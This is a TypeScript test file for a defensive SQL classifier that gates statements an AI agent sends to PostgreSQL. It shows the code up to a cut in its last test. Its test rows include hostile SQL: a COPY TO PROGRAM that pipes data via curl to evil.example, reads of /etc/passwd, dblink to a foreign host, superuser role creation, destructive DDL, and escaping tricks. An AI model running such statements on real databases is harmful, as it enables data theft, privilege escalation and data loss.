// Table-driven tests for the pure SQL classifier (operation, access, reasons),
// the tables it reports (with PostgreSQL's CTE scoping), the functions it
// collects, and parseRunSql's refusals. Every row is one statement as an agent
// could send it; the expected classification is what PostgreSQL would do with
// it, and where in doubt, the stricter reading (fail closed).

import { beforeAll, describe, expect, it } from 'vitest';
import { loadParser, parseSql, type AstObject } from '../../../src/backends/postgres/ast.js';
import { classifyStatement, collectTables, SQL_OPERATIONS, type Classification } from '../../../src/backends/postgres/classify.js';
import { parseRunSql } from '../../../src/backends/postgres/index.js';
import { DrawbridgeError } from '../../../src/errors.js';

beforeAll(async () => {
  await loadParser();
});

function only(sql: string): AstObject {
  const { stmts } = parseSql(sql);
  expect(stmts, `expected exactly one statement in ${sql}`).toHaveLength(1);
  return (stmts[0] as { stmt: AstObject }).stmt;
}

function classify(sql: string): Classification {
  return classifyStatement(only(sql));
}

type Row = readonly [sql: string, operation: string, access: 'read' | 'write' | 'admin' | 'unknown', reason?: string];

const SELECTS: readonly Row[] = [
  ['SELECT 1', 'select', 'read', 'SELECT'],
  ['SELECT * FROM customers', 'select', 'read'],
  ['SELECT c.id, o.total FROM customers c JOIN orders o ON o.customer_id = c.id', 'select', 'read'],
  ['SELECT * FROM customers c LEFT JOIN orders o USING (id) FULL JOIN orders o2 ON true', 'select', 'read'],
  ['SELECT * FROM (SELECT id FROM customers) s WHERE s.id IN (SELECT customer_id FROM orders)', 'select', 'read'],
  ['SELECT id, row_number() OVER (PARTITION BY city ORDER BY created_at), sum(id) OVER w FROM customers WINDOW w AS (ORDER BY id)', 'select', 'read'],
  ["WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent", 'select', 'read'],
  ['WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT sum(i) FROM n', 'select', 'read'],
  ["VALUES (1, 'a'), (2, 'b')", 'select', 'read'],
  ['TABLE customers', 'select', 'read'],
  ['SELECT id FROM customers UNION SELECT id FROM orders', 'select', 'read'],
  ['SELECT id FROM customers INTERSECT SELECT customer_id FROM orders EXCEPT ALL SELECT 3', 'select', 'read'],
  ['SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id LIMIT 1) o', 'select', 'read'],
  ['SELECT DISTINCT ON (city) city, id FROM customers ORDER BY city, id', 'select', 'read'],
  ['SELECT city, count(*) FROM customers GROUP BY ROLLUP (city) HAVING count(*) > 1', 'select', 'read'],
  ['SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g(v, n)', 'select', 'read'],
  ['SELECT EXISTS (SELECT 1 FROM orders)', 'select', 'read'],
  ['SELECT * FROM customers TABLESAMPLE SYSTEM (10)', 'select', 'read'],
  ["SELECT 'DELETE FROM orders' AS text, $$DROP TABLE customers$$", 'select', 'read'],
  ["SELECT current_setting('search_path'), now(), random()", 'select', 'read'],
];

const ROW_LOCKS: readonly Row[] = [
  ['SELECT * FROM orders FOR UPDATE', 'select_for_update', 'write', 'row locks'],
  ['SELECT * FROM orders FOR SHARE', 'select_for_update', 'write', 'row locks'],
  ['SELECT * FROM orders FOR NO KEY UPDATE', 'select_for_update', 'write', 'row locks'],
  ['SELECT * FROM orders FOR KEY SHARE', 'select_for_update', 'write', 'row locks'],
  ['SELECT * FROM orders FOR UPDATE OF orders SKIP LOCKED', 'select_for_update', 'write'],
  ['SELECT * FROM orders FOR UPDATE NOWAIT', 'select_for_update', 'write'],
  ['SELECT * FROM (SELECT * FROM orders FOR UPDATE) s', 'select_for_update', 'write'],
  ['WITH x AS (SELECT * FROM orders FOR SHARE) SELECT * FROM x', 'select_for_update', 'write'],
  ['SELECT (SELECT id FROM orders LIMIT 1 FOR UPDATE)', 'select_for_update', 'write'],
  ['SELECT 1 UNION (SELECT 1 FROM orders FOR UPDATE)', 'select_for_update', 'write'],
  ['SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM orders FOR KEY SHARE)', 'select_for_update', 'write'],
];

const DATA_MODIFYING_CTES: readonly Row[] = [
  ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'delete', 'write', 'data-modifying CTE (DELETE)'],
  ["WITH u AS (UPDATE orders SET note = 'x' RETURNING id) SELECT count(*) FROM u", 'update', 'write', 'data-modifying CTE (UPDATE)'],
  ['WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i', 'insert', 'write', 'data-modifying CTE (INSERT)'],
  [
    'WITH m AS (MERGE INTO orders o USING (SELECT 1 AS id) s ON o.id = s.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m',
    'merge',
    'write',
    'data-modifying CTE (MERGE)',
  ],
  ["WITH a AS (SELECT 1), b AS (WITH c AS (UPDATE orders SET note = 'x' RETURNING id) SELECT * FROM c) SELECT * FROM a, b", 'update', 'write'],
  ['SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d) s', 'delete', 'write'],
  ['SELECT (WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d)', 'delete', 'write'],
  ['WITH x AS (SELECT 1) SELECT * FROM x UNION ALL (WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d)', 'delete', 'write'],
  ['WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM d', 'insert', 'write', 'data-modifying CTE (DELETE)'],
];

const CREATES_TABLES: readonly Row[] = [
  ['SELECT * INTO backup FROM customers', 'ddl', 'admin', 'SELECT INTO'],
  ['SELECT 1 AS a INTO TEMP scratch UNION SELECT 2', 'ddl', 'admin', 'SELECT INTO'],
  ['WITH x AS (SELECT 1) SELECT * INTO y FROM x', 'ddl', 'admin', 'SELECT INTO'],
  ['CREATE TABLE backup AS SELECT * FROM customers', 'ddl', 'admin', 'CREATE TABLE AS'],
  ['CREATE TEMP TABLE scratch AS TABLE customers WITH NO DATA', 'ddl', 'admin', 'CREATE TABLE AS'],
  ['CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers', 'ddl', 'admin'],
  ['REFRESH MATERIALIZED VIEW CONCURRENTLY mv', 'ddl', 'admin'],
];

const DML: readonly Row[] = [
  ["INSERT INTO orders (id, note) VALUES (1, 'x')", 'insert', 'write', 'INSERT'],
  ['INSERT INTO orders SELECT * FROM orders', 'insert', 'write'],
  ['INSERT INTO orders DEFAULT VALUES RETURNING id', 'insert', 'write'],
  ['INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO NOTHING', 'insert', 'write'],
  ['INSERT INTO orders (id, note) VALUES (1, $$x$$) ON CONFLICT (id) DO UPDATE SET note = excluded.note', 'insert', 'write'],
  ["UPDATE orders SET note = 'x' WHERE id = 1", 'update', 'write', 'UPDATE'],
  ['UPDATE orders o SET note = c.city FROM customers c WHERE c.id = o.customer_id', 'update', 'write'],
  ['UPDATE orders SET (note, status) = (SELECT city, full_name FROM customers LIMIT 1)', 'update', 'write'],
  ['DELETE FROM orders WHERE id = 1', 'delete', 'write', 'DELETE'],
  ['DELETE FROM orders USING customers c WHERE c.id = orders.customer_id RETURNING orders.*', 'delete', 'write'],
  ['DELETE FROM orders WHERE CURRENT OF c', 'delete', 'write'],
  [
    'MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN UPDATE SET note = c.city WHEN NOT MATCHED THEN INSERT (id) VALUES (c.id)',
    'merge',
    'write',
    'MERGE',
  ],
  ['MERGE INTO orders o USING orders s ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', 'merge', 'write'],
];

const EXPLAINS: readonly Row[] = [
  ['EXPLAIN SELECT * FROM customers', 'explain', 'read', 'only plans'],
  ['EXPLAIN DELETE FROM orders', 'explain', 'read', 'only plans'],
  ["EXPLAIN (COSTS off, FORMAT json) UPDATE orders SET note = 'x'", 'explain', 'read'],
  ['EXPLAIN WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d', 'explain', 'read'],
  ['EXPLAIN CREATE TABLE x AS SELECT 1', 'explain', 'read'],
  ['EXPLAIN ANALYZE SELECT * FROM customers', 'explain', 'read', 'EXPLAIN ANALYZE executes'],
  ['EXPLAIN (ANALYZE, BUFFERS) SELECT 1', 'explain', 'read'],
  ['EXPLAIN ANALYZE DELETE FROM orders', 'delete', 'write', 'EXPLAIN ANALYZE executes the DELETE'],
  ['EXPLAIN ANALYSE DELETE FROM orders', 'delete', 'write'],
  ['EXPLAIN ANALYZE VERBOSE INSERT INTO orders (id) VALUES (1)', 'insert', 'write'],
  ["EXPLAIN (ANALYZE) UPDATE orders SET note = 'x'", 'update', 'write'],
  ['EXPLAIN (ANALYSE) DELETE FROM orders', 'delete', 'write'],
  ['EXPLAIN (ANALYZE true) DELETE FROM orders', 'delete', 'write'],
  ['EXPLAIN (ANALYZE on) DELETE FROM orders', 'delete', 'write'],
  ['EXPLAIN (ANALYZE 1) DELETE FROM orders', 'delete', 'write'],
  ["EXPLAIN (ANALYZE 'TRUE') DELETE FROM orders", 'delete', 'write'],
  ['EXPLAIN (ANALYZE 2) DELETE FROM orders', 'delete', 'write'], // PostgreSQL refuses it; fail closed
  ["EXPLAIN (ANALYZE '0') DELETE FROM orders", 'delete', 'write'], // a string '0' is not false to defGetBoolean
  ['EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders', 'delete', 'write'],
  ['EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM orders', 'delete', 'write'], // any true counts
  ['EXPLAIN (ANALYZE false) DELETE FROM orders', 'explain', 'read', 'only plans'],
  ['EXPLAIN (ANALYZE off) DELETE FROM orders', 'explain', 'read'],
  ['EXPLAIN (ANALYZE 0) DELETE FROM orders', 'explain', 'read'],
  ["EXPLAIN (ANALYZE 'FALSE') DELETE FROM orders", 'explain', 'read'],
  ["EXPLAIN (ANALYZE 'Off', COSTS false) UPDATE orders SET note = 'x'", 'explain', 'read'],
  ['EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d', 'delete', 'write', 'data-modifying CTE (DELETE)'],
  ['EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1', 'ddl', 'admin'],
  ['EXPLAIN ANALYZE SELECT 1 INTO x', 'ddl', 'admin', 'SELECT INTO'],
  ['EXPLAIN ANALYZE SELECT * FROM orders FOR UPDATE', 'select_for_update', 'write'],
  ['EXPLAIN ANALYZE EXECUTE p', 'prepared', 'admin'],
  ['EXPLAIN SELECT pg_terminate_backend(1)', 'admin', 'admin', 'pg_terminate_backend'], // stricter than needed: planning does not call it
];

const TRANSACTIONS: readonly Row[] = [
  ['BEGIN', 'transaction', 'admin', 'transaction control'],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ WRITE', 'transaction', 'admin'],
  ['COMMIT', 'transaction', 'admin'],
  ['END', 'transaction', 'admin'],
  ['ROLLBACK', 'transaction', 'admin'],
  ['ABORT', 'transaction', 'admin'],
  ['SAVEPOINT s', 'transaction', 'admin'],
  ['RELEASE SAVEPOINT s', 'transaction', 'admin'],
  ['ROLLBACK TO SAVEPOINT s', 'transaction', 'admin'],
  ["PREPARE TRANSACTION 'x'", 'transaction', 'admin'],
  ["COMMIT PREPARED 'x'", 'transaction', 'admin'],
  ["ROLLBACK PREPARED 'x'", 'transaction', 'admin'],
];

const SESSION: readonly Row[] = [
  ['SET search_path = evil, public', 'session', 'admin', 'SET/RESET'],
  ['SET LOCAL statement_timeout = 0', 'session', 'admin'],
  ['SET SESSION default_transaction_read_only = off', 'session', 'admin'],
  ["SET TIME ZONE 'UTC'", 'session', 'admin'],
  ['RESET ALL', 'session', 'admin'],
  ['RESET statement_timeout', 'session', 'admin'],
  ['SET ROLE postgres', 'session', 'admin'],
  ['RESET ROLE', 'session', 'admin'],
  ['SET SESSION AUTHORIZATION postgres', 'session', 'admin'],
  ['SET TRANSACTION READ WRITE', 'session', 'admin'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'session', 'admin'],
  ['SET CONSTRAINTS ALL DEFERRED', 'session', 'admin', 'SET CONSTRAINTS'],
  ['DISCARD ALL', 'session', 'admin', 'DISCARD'],
  ['DISCARD PLANS', 'session', 'admin'],
  ['SHOW search_path', 'show', 'read', 'SHOW'],
  ['SHOW ALL', 'show', 'read'],
  ['SHOW TRANSACTION ISOLATION LEVEL', 'show', 'read'],
  ["SELECT set_config('search_path', 'evil', false)", 'session', 'admin', 'set_config'],
  ["SELECT pg_catalog.set_config('role', 'postgres', true)", 'session', 'admin', 'set_config'],
  ["SELECT * FROM customers WHERE set_config('statement_timeout', '0', true) IS NOT NULL", 'session', 'admin', 'set_config'],
  ['SELECT setseed(0.5)', 'session', 'admin', 'setseed'],
  ['DECLARE c CURSOR FOR SELECT * FROM customers', 'session', 'admin', 'DECLARE'],
  ['DECLARE c CURSOR WITH HOLD FOR SELECT 1', 'session', 'admin'],
  ['FETCH 10 FROM c', 'session', 'admin', 'FETCH'],
  ['FETCH ALL IN c', 'session', 'admin'],
  ['MOVE LAST IN c', 'session', 'admin'],
  ['CLOSE c', 'session', 'admin', 'CLOSE'],
  ['CLOSE ALL', 'session', 'admin'],
  ['PREPARE p AS SELECT 1', 'prepared', 'admin', 'PREPARE'],
  ['PREPARE p (int) AS DELETE FROM orders WHERE id = $1', 'prepared', 'admin'],
  ['EXECUTE p', 'prepared', 'admin', 'EXECUTE'],
  ['EXECUTE p(1)', 'prepared', 'admin'],
  ['DEALLOCATE p', 'prepared', 'admin', 'DEALLOCATE'],
  ['DEALLOCATE ALL', 'prepared', 'admin'],
  ['LISTEN orders_changed', 'listen', 'admin', 'LISTEN'],
  ['UNLISTEN *', 'listen', 'admin', 'UNLISTEN'],
  ["NOTIFY orders_changed, 'x'", 'notify', 'admin', 'NOTIFY'],
  ["SELECT pg_notify('orders_changed', 'x')", 'notify', 'admin', 'pg_notify'],
  ["SELECT pg_catalog.pg_notify('c', email) FROM customers", 'notify', 'admin', 'pg_notify'],
];

const SERVER_SIDE: readonly Row[] = [
  ['COPY customers TO STDOUT', 'copy', 'admin', 'COPY'],
  ['COPY (SELECT * FROM customers) TO STDOUT WITH (FORMAT csv)', 'copy', 'admin'],
  ['COPY orders FROM STDIN', 'copy', 'admin'],
  ["COPY customers TO '/tmp/customers.csv'", 'copy', 'admin'],
  ["COPY orders FROM '/etc/passwd'", 'copy', 'admin'],
  ["COPY customers TO PROGRAM 'curl -d @- https://evil.example'", 'copy', 'admin'],
  ["COPY orders FROM PROGRAM 'id'", 'copy', 'admin'],
  ['COPY (DELETE FROM orders RETURNING *) TO STDOUT', 'copy', 'admin'],
  ['DO $$ BEGIN DELETE FROM orders; END $$', 'do', 'admin', 'DO'],
  ["DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", 'do', 'admin'],
  ['CALL archive_orders()', 'call', 'admin', 'CALL'],
  ['CALL ops.archive_orders(30)', 'call', 'admin'],
  ['LOCK orders', 'lock', 'admin', 'LOCK'],
  ['LOCK TABLE orders, customers IN ACCESS EXCLUSIVE MODE NOWAIT', 'lock', 'admin'],
  ['VACUUM', 'maintenance', 'admin', 'VACUUM'],
  ['VACUUM FULL orders', 'maintenance', 'admin'],
  ['VACUUM (ANALYZE, VERBOSE) orders', 'maintenance', 'admin'],
  ['ANALYZE orders', 'maintenance', 'admin'],
  ['ANALYZE', 'maintenance', 'admin'],
  ['CLUSTER orders USING orders_pkey', 'maintenance', 'admin', 'CLUSTER'],
  ['REINDEX TABLE orders', 'maintenance', 'admin', 'REINDEX'],
  ['REINDEX DATABASE shop', 'maintenance', 'admin'],
  ['CHECKPOINT', 'maintenance', 'admin', 'CHECKPOINT'],
  ["LOAD 'auto_explain'", 'admin', 'admin', 'LOAD'],
  ['TRUNCATE orders', 'ddl', 'admin', 'TRUNCATE'],
  ['TRUNCATE TABLE orders, customers RESTART IDENTITY CASCADE', 'ddl', 'admin'],
];

const DDL: readonly Row[] = [
  ['CREATE TABLE t (id int PRIMARY KEY)', 'ddl', 'admin', 'changes the schema'],
  ['CREATE TEMP TABLE t (id int)', 'ddl', 'admin'],
  ['CREATE UNLOGGED TABLE t (LIKE customers INCLUDING ALL)', 'ddl', 'admin'],
  ['ALTER TABLE customers ADD COLUMN x int', 'ddl', 'admin'],
  ['ALTER TABLE customers ALTER COLUMN ssn TYPE int USING ssn::int', 'ddl', 'admin'],
  ['ALTER TABLE customers RENAME TO clients', 'ddl', 'admin'],
  ['ALTER TABLE customers RENAME COLUMN ssn TO x', 'ddl', 'admin'],
  ['ALTER TABLE customers OWNER TO evil', 'ddl', 'admin'],
  ['ALTER TABLE customers DISABLE ROW LEVEL SECURITY', 'ddl', 'admin'],
  ['ALTER TABLE customers SET SCHEMA archive', 'ddl', 'admin'],
  ['DROP TABLE customers', 'ddl', 'admin'],
  ['DROP TABLE IF EXISTS public.customers, orders CASCADE', 'ddl', 'admin'],
  ['CREATE INDEX ON customers (email)', 'ddl', 'admin'],
  ['CREATE UNIQUE INDEX CONCURRENTLY customers_email ON customers (lower(email))', 'ddl', 'admin'],
  ['DROP INDEX customers_email', 'ddl', 'admin'],
  ['CREATE VIEW v AS SELECT * FROM customers', 'ddl', 'admin'],
  ['CREATE OR REPLACE VIEW v AS SELECT id FROM customers', 'ddl', 'admin'],
  ['DROP VIEW v', 'ddl', 'admin'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'ddl', 'admin'],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1', 'ddl', 'admin'],
  ['CREATE FUNCTION f() RETURNS bigint LANGUAGE sql RETURN (SELECT count(*) FROM customers)', 'ddl', 'admin'],
  ['CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END', 'ddl', 'admin'],
  ['ALTER FUNCTION f() SECURITY DEFINER', 'ddl', 'admin'],
  ['DROP FUNCTION f()', 'ddl', 'admin'],
  ['CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()', 'ddl', 'admin'],
  ['DROP TRIGGER tr ON orders', 'ddl', 'admin'],
  ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()', 'ddl', 'admin'],
  ['CREATE EXTENSION dblink', 'ddl', 'admin'],
  ['ALTER EXTENSION dblink UPDATE', 'ddl', 'admin'],
  ['DROP EXTENSION dblink', 'ddl', 'admin'],
  ['CREATE SCHEMA s', 'ddl', 'admin'],
  ['CREATE SCHEMA s CREATE TABLE t (id int)', 'ddl', 'admin'],
  ['DROP SCHEMA public CASCADE', 'ddl', 'admin'],
  ["CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'", 'admin', 'admin', 'role management'],
  ["CREATE USER evil PASSWORD 'x'", 'admin', 'admin', 'role management'],
  ['ALTER ROLE drawbridge SUPERUSER', 'admin', 'admin', 'role management'],
  ['ALTER ROLE drawbridge SET search_path = evil', 'admin', 'admin', 'role management'],
  ['DROP ROLE evil', 'admin', 'admin', 'role management'],
  ['GRANT pg_read_server_files TO drawbridge', 'admin', 'admin', 'role management'],
  ['REASSIGN OWNED BY a TO b', 'admin', 'admin'],
  ['DROP OWNED BY a', 'admin', 'admin'],
  ['GRANT SELECT ON customers TO PUBLIC', 'ddl', 'admin'],
  ['REVOKE ALL ON customers FROM PUBLIC', 'ddl', 'admin'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC', 'ddl', 'admin'],
  ["COMMENT ON TABLE customers IS 'x'", 'ddl', 'admin'],
  ["COMMENT ON COLUMN customers.ssn IS 'x'", 'ddl', 'admin'],
  ["SECURITY LABEL ON TABLE customers IS 'x'", 'ddl', 'admin'],
  ['ALTER SYSTEM SET fsync = off', 'admin', 'admin', 'ALTER SYSTEM'],
  ['ALTER SYSTEM RESET ALL', 'admin', 'admin', 'ALTER SYSTEM'],
  ['CREATE DATABASE evil', 'admin', 'admin', 'database management'],
  ['DROP DATABASE shop', 'admin', 'admin', 'database management'],
  ['ALTER DATABASE shop SET default_transaction_read_only = off', 'admin', 'admin', 'database management'],
  ["CREATE TABLESPACE ts LOCATION '/tmp'", 'admin', 'admin', 'tablespace'],
  ["CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", 'admin', 'admin', 'replication'],
  ['CREATE PUBLICATION p FOR ALL TABLES', 'ddl', 'admin'],
  ['CREATE SEQUENCE s', 'ddl', 'admin'],
  ['ALTER SEQUENCE s RESTART', 'ddl', 'admin'],
  ["CREATE TYPE mood AS ENUM ('sad', 'ok')", 'ddl', 'admin'],
  ['CREATE TYPE pair AS (a int, b int)', 'ddl', 'admin'],
  ['CREATE DOMAIN posint AS int CHECK (VALUE > 0)', 'ddl', 'admin'],
  ['CREATE POLICY p ON customers USING (true)', 'ddl', 'admin'],
  ['CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM customers', 'ddl', 'admin'],
  ['CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw', 'ddl', 'admin'],
  ["CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (user 'postgres')", 'ddl', 'admin'],
  ['IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local', 'ddl', 'admin'],
  ['CREATE LANGUAGE plpython3u', 'ddl', 'admin'],
  ['CREATE CAST (text AS int) WITH INOUT', 'ddl', 'admin'],
  ['CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)', 'ddl', 'admin'],
  ['CREATE AGGREGATE agg (int) (SFUNC = int4pl, STYPE = int)', 'ddl', 'admin'],
  ['CREATE STATISTICS st ON city, id FROM customers', 'ddl', 'admin'],
  ["CREATE COLLATION c (locale = 'C')", 'ddl', 'admin'],
];

const DANGEROUS_FUNCTIONS: readonly Row[] = [
  ['SELECT pg_terminate_backend(123)', 'admin', 'admin', 'pg_terminate_backend'],
  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', 'admin', 'admin', 'pg_cancel_backend'],
  ["SELECT pg_read_file('/etc/passwd')", 'admin', 'admin', 'pg_read_file'],
  ["SELECT pg_read_binary_file('/etc/passwd')", 'admin', 'admin', 'pg_read_binary_file'],
  ["SELECT * FROM pg_ls_dir('.')", 'admin', 'admin', 'pg_ls_dir'],
  ["SELECT lo_import('/etc/passwd')", 'admin', 'admin', 'lo_import'],
  ["SELECT lo_export(16384, '/tmp/x')", 'admin', 'admin', 'lo_export'],
  ["SELECT query_to_xml('SELECT * FROM customers', true, true, '')", 'admin', 'admin', 'query_to_xml'],
  ["SELECT table_to_xml('customers', true, true, '')", 'admin', 'admin', 'table_to_xml'],
  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'admin', 'admin', 'dblink'],
  ["SELECT dblink_exec('host=evil', 'DROP TABLE customers')", 'admin', 'admin', 'dblink_exec'],
  ["SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')", 'admin', 'admin', 'ts_stat'],
  ['SELECT pg_advisory_lock(1)', 'admin', 'admin', 'pg_advisory_lock'],
  ['SELECT pg_try_advisory_xact_lock(1)', 'admin', 'admin', 'pg_try_advisory_xact_lock'],
  ['SELECT pg_reload_conf()', 'admin', 'admin', 'pg_reload_conf'],
  ["SELECT * FROM crosstab('SELECT city, email, ssn FROM customers') AS t(a text)", 'admin', 'admin', 'crosstab'],
  // Schema-qualified, case-folded, quoted and unicode-escaped spellings.
  ['SELECT pg_catalog.pg_terminate_backend(1)', 'admin', 'admin', 'pg_terminate_backend'],
  ["SELECT PG_CATALOG.PG_READ_FILE('x')", 'admin', 'admin', 'pg_read_file'],
  ['SELECT "pg_terminate_backend"(1)', 'admin', 'admin', 'pg_terminate_backend'],
  ['SELECT "PG_TERMINATE_BACKEND"(1)', 'admin', 'admin', 'pg_terminate_backend'], // another function, but the name is enough to refuse
  ['SELECT "pg_catalog"."pg_ls_dir"(\'.\')', 'admin', 'admin', 'pg_ls_dir'],
  ['SELECT U&"pg_\\0074erminate_backend"(1)', 'admin', 'admin', 'pg_terminate_backend'],
  ["SELECT U&\"lo_!0069mport\" UESCAPE '!' ('/etc/passwd')", 'admin', 'admin', 'lo_import'],
  // Anywhere in the tree.
  ['SELECT * FROM customers WHERE id = (SELECT pg_cancel_backend(1)::int)', 'admin', 'admin', 'pg_cancel_backend'],
  ["WITH x AS (SELECT pg_read_file('f')) SELECT * FROM x", 'admin', 'admin', 'pg_read_file'],
  ["SELECT * FROM customers c, LATERAL (SELECT pg_ls_dir('.')) d", 'admin', 'admin', 'pg_ls_dir'],
  ["SELECT * FROM customers c JOIN LATERAL pg_ls_dir('.') d ON true", 'admin', 'admin', 'pg_ls_dir'],
  ['SELECT * FROM customers ORDER BY pg_terminate_backend(id)', 'admin', 'admin', 'pg_terminate_backend'],
  ['SELECT * FROM customers WHERE pg_terminate_backend(id)', 'admin', 'admin', 'pg_terminate_backend'],
  ['SELECT count(*) FILTER (WHERE pg_cancel_backend(1)) FROM customers', 'admin', 'admin', 'pg_cancel_backend'],
  ['SELECT id FROM customers GROUP BY id HAVING pg_reload_conf()', 'admin', 'admin', 'pg_reload_conf'],
  ['SELECT sum(id) OVER (ORDER BY pg_advisory_lock(id)) FROM customers', 'admin', 'admin', 'pg_advisory_lock'],
  ['SELECT 1 WHERE EXISTS (SELECT pg_advisory_lock(1))', 'admin', 'admin', 'pg_advisory_lock'],
  ['SELECT CASE WHEN false THEN pg_terminate_backend(1) END', 'admin', 'admin', 'pg_terminate_backend'],
  ['VALUES (pg_terminate_backend(1))', 'admin', 'admin', 'pg_terminate_backend'],
  ['SELECT 1 UNION SELECT pg_reload_conf()::int', 'admin', 'admin', 'pg_reload_conf'],
  ["INSERT INTO orders (note) VALUES (pg_read_file('/etc/passwd'))", 'admin', 'admin', 'pg_read_file'],
  ["WITH d AS (DELETE FROM orders RETURNING pg_read_file('x')) SELECT 1", 'admin', 'admin', 'pg_read_file'],
];

const TRICKS: readonly Row[] = [
  ['SELECT * FROM U&"d\\0061ta"', 'select', 'read'],
  ['SELECT 1 /* ; DELETE FROM orders */', 'select', 'read'],
  ['SELECT 1 /* outer /* nested ; DELETE FROM orders */ still comment; DROP TABLE customers */', 'select', 'read'],
  // A line comment ends at the newline: the next line continues the SELECT (`AS delete`).
  ['SELECT 1 -- ;\nDELETE FROM orders', 'select', 'read'],
  ['SELECT $$; DELETE FROM orders; $$', 'select', 'read'],
  ['SELECT $a$ $$; DELETE FROM orders; $$ $a$', 'select', 'read'],
  ["SELECT E'\\'; DELETE FROM orders; --'", 'select', 'read'],
  ["SELECT 'it''s; DELETE FROM orders'", 'select', 'read'],
  ['SELECT "; DELETE FROM orders" FROM customers', 'select', 'read'],
  ['/* leading */ -- comment\n  SELECT 1', 'select', 'read'],
  ['sElEcT * fRoM customers', 'select', 'read'],
  ['DeLeTe FrOm orders', 'delete', 'write'],
];

const ALL: ReadonlyArray<readonly [string, readonly Row[]]> = [
  ['plain selects', SELECTS],
  ['row locks', ROW_LOCKS],
  ['data-modifying CTEs', DATA_MODIFYING_CTES],
  ['statements that create tables', CREATES_TABLES],
  ['INSERT / UPDATE / DELETE / MERGE', DML],
  ['EXPLAIN', EXPLAINS],
  ['transaction control', TRANSACTIONS],
  ['session state', SESSION],
  ['server-side statements', SERVER_SIDE],
  ['schema and role changes', DDL],
  ['dangerous functions', DANGEROUS_FUNCTIONS],
  ['comment, quoting and escaping tricks', TRICKS],
];

describe('classifyStatement', () => {
  it('has a large table', () => {
    expect(ALL.reduce((n, [, rows]) => n + rows.length, 0)).toBeGreaterThanOrEqual(80);
  });

  for (const [group, rows] of ALL) {
    describe(group, () => {
      it.each(rows.map((row) => ({ sql: row[0], operation: row[1], access: row[2], reason: row[3] })))('$sql', ({ sql, operation, access, reason }) => {
        const c = classify(sql);
        expect({ operation: c.operation, access: c.access }, c.reasons.join(' | ')).toEqual({ operation, access });
        expect(SQL_OPERATIONS).toContain(c.operation);
        if (reason !== undefined) expect(c.reasons.join(' | ')).toContain(reason);
      });
    });
  }

  it('fails closed on a statement type it does not know', () => {
    const c = classifyStatement({ FutureStmt: { relation: { relname: 't', relpersistence: 'p' } } });
    expect(c).toMatchObject({ operation: 'unknown', access: 'unknown', touchesSession: true });
    expect(c.reasons.join(' ')).toContain('FutureStmt');
  });

  it('fails closed on an unknown statement nested inside a known one', () => {
    const stmt = only('SELECT 1');
    const select = stmt['SelectStmt'] as AstObject;
    const tree = { SelectStmt: { ...select, targetList: [{ ResTarget: { val: { FutureStmt: {} } } }] } };
    expect(classifyStatement(tree)).toMatchObject({ operation: 'unknown', access: 'unknown' });
  });

  it('fails closed on something that is not a statement node', () => {
    expect(classifyStatement({})).toMatchObject({ operation: 'unknown', access: 'unknown' });
    expect(classifyStatement({ a: 1, b: 2 })).toMatchObject({ operation: 'unknown', access: 'unknown' });
  });

  it('fails closed on a tree deeper than any stack (built directly, so the overflow is certain)', () => {
    let expr: Record<string, unknown> = { A_Const: { ival: { ival: 1 } } };
    for (let i = 0; i < 200_000; i++)
      expr = { A_Expr: { kind: 'AEXPR_OP', name: [{ String: { sval: '+' } }], lexpr: expr, rexpr: { A_Const: { ival: { ival: 1 } } } } };
    const result = classifyStatement({ SelectStmt: { targetList: [{ ResTarget: { val: expr } }], op: 'SETOP_NONE' } });
    expect(result).toMatchObject({ operation: 'unknown', access: 'unknown' });
    expect(result.reasons.join(' ')).toContain('nested too deeply');
  });

  it('never crashes on deeply nested SQL: classified correctly or refused', () => {
    for (const sql of [`SELECT ${'(SELECT '.repeat(3000)}1${')'.repeat(3000)}`, `SELECT 1${' UNION SELECT 1'.repeat(4000)}`]) {
      let request;
      try {
        request = parseRunSql({ sql }, { tool: 'run_sql', connection: 'shop' });
      } catch (error) {
